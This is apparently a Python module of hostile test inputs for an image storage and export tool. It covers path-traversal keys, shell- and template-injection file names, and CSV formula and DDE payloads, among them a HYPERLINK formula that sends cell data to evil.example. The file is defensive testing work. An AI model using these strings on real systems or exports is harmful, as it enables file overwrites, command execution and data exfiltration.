"""Names: keys of the storage, files of an export, cells of a table."""

from __future__ import annotations

from tests.hostile.cases import Area, Case, refused, survived

SHA = "ab" * 32
NO_KEY = "key"

#: Keys, as a damaged or forged row of the database might have them.
KEYS: tuple[Case, ...] = (
    refused("nothing", "", NO_KEY),
    refused("a path out of the storage", "../../etc/passwd", NO_KEY),
    refused("a key with a way out", f"ab/ab/../../../{SHA}.jpg", NO_KEY),
    refused("an absolute path", "/etc/passwd", NO_KEY),
    refused("a key behind a slash", f"/ab/ab/{SHA}.jpg", NO_KEY),
    refused("another scheme", "s3://bucket/x.jpg", NO_KEY),
    refused("a chain of file systems", f"ab/ab/{SHA}.jpg::file:///etc/passwd", NO_KEY),
    refused("a pattern", f"ab/ab/{'*' * 64}.jpg", NO_KEY),
    refused("NUL", f"ab/ab/{SHA}.jpg\0", NO_KEY),
    refused("a line break at the end", f"ab/ab/{SHA}.jpg\n", NO_KEY),
    refused("capitals", f"AB/AB/{SHA.upper()}.jpg", NO_KEY),
    refused("folders of another digest", f"cd/ef/{SHA}.jpg", NO_KEY),
    refused("no ending", f"ab/ab/{SHA}", NO_KEY),
    refused("two endings", f"ab/ab/{SHA}.jpg.php", NO_KEY),
    refused("an ending of 9 characters", f"ab/ab/{SHA}.jpgjpgjpg", NO_KEY),
    refused("full-width digits", "ab/ab/" + "\uff11" * 64 + ".jpg", NO_KEY),
)

#: Keys of catalogs, whose pictures are put into a folder under them.
NAMES: tuple[Case, ...] = (
    survived("a path out of the folder", "../../etc/cron.d/x", "one name in the folder"),
    survived("an absolute path", "/etc/passwd", "one name in the folder"),
    survived("a Windows path", "..\\..\\x", "one name in the folder"),
    survived("a drive", "C:x", "one name in the folder"),
    survived("two dots", "..", "one name in the folder"),
    survived("a hidden file", ".bashrc", "no dot in front"),
    survived("a Windows device", "CON", "no device's name"),
    survived("a Windows device with an ending", "nul.txt", "no device's name"),
    survived("a command's option", "-rf", "a name"),
    survived("a shell's signs", "a;rm -rf $HOME `id` | x", "signs replaced"),
    survived("a template", "{0.__class__}{{7*7}}", "signs replaced"),
    survived("a stream of NTFS", "a:evil.exe", "signs replaced"),
    survived("blanks and dots at the end", "a. . .", "signs replaced"),
    survived("400 letters", "k" * 400, "cut, told apart by a digest"),
    survived("200 letters of three bytes", "面" * 200, "cut between letters"),
    survived("letters that combine", "e\u0301" * 100, "cut between letters"),
    survived("only signs", "///", "told apart by a digest"),
    survived("other signs of the same number", "***", "told apart by a digest"),
    survived("a name where a link leads out", "linked", "the link is replaced, what it led to stays"),
)

#: Templates of exported files' names, and metadata that they put in.
TEMPLATES: tuple[Case, ...] = (
    refused("a way out of the folder", "../{key}_{index}", "folder"),
    refused("a way out, further in", "{key}/../../x_{index}", "folder"),
    refused("an absolute path", "/tmp/{key}_{index}", "/tmp/{key}_{index}"),  # noqa: S108 - an address to refuse
    refused("a step without a name", "{key}//{index}", "folder"),
    refused("a backslash", "..\\{key}_{index}", "folder"),
    refused("NUL", "{key}\0{index}", "folder"),
    refused("nothing", "", "folder"),
    refused("an attribute", "{key.__class__}", "column"),
    refused("an item", "{key[0]}", "column"),
    refused("a conversion", "{key!r}", "braces"),
    refused("a width of a billion", "{key:>1000000000}", "braces"),
    refused("a place without a name", "{}", "braces"),
    refused("a brace that is never closed", "{key", "--template"),
    refused("an unknown name", "{nothing}_{key}", "column"),
    refused("one name for several pictures", "{batch}", "several"),
    survived("metadata that lead out", "{out}/{key}_{index}", "one step, its signs replaced"),
    survived("metadata of two dots", "{dots}/{key}_{index}", "one step, its signs replaced"),
    survived("metadata of nothing, in front", "{nothing_at_all}/{key}_{index}", "a step all the same"),
)

#: Cells, in any column of an exported table: key, error, metadata, the name of a metadata column.
CELLS: tuple[Case, ...] = (
    survived("a sum", "=1+1", "text"),
    survived("a program", "=cmd|' /C calc'!A0", "text"),
    survived("a program behind a plus", "+cmd|' /C calc'!A0", "text"),
    survived("a program behind a minus", "-2+3+cmd|' /C calc'!A0", "text"),
    survived("an old function", "@SUM(1+1)*cmd|' /C calc'!A0", "text"),
    survived("a link that reports back", '=HYPERLINK("http://evil.example/?"&A1,"x")', "text"),
    survived("a tab in front", "\t=1+1", "text"),
    survived("a line end in front", "\r=1+1", "text"),
    survived("a new line in front", "\n=1+1", "text"),
    survived("full-width equals", "\uff1d1+1", "text"),
    survived("full-width plus", "\uff0b1+1", "text"),
    survived("full-width minus", "\uff0d1+1", "text"),
    survived("full-width at", "\uff20SUM(A1)", "text"),
    survived("a quote and a comma in front", '",=1+1', "one cell"),
    survived("a cell that ends a row", 'x"\r\n=1+1,"y', "one cell"),
    survived("a negative price", "-5.00", "stays a number"),
    survived("a telephone number", "+49301234567", "stays a number"),
)

AREAS = (
    Area("Keys of the storage", "read, opened, looked up and made into a URL", KEYS),
    Area(
        "Names of exported files",
        "pictures with all these keys and with valid ones are exported into one folder: each is there once, under its"
        " own name, and nothing outside the folder has changed",
        NAMES,
    ),
    Area("Templates of exported files' names", "with hostile metadata", TEMPLATES),
    Area("Cells of exported tables", "each as a key, an error, metadata and a column's name, read back as CSV", CELLS),
)
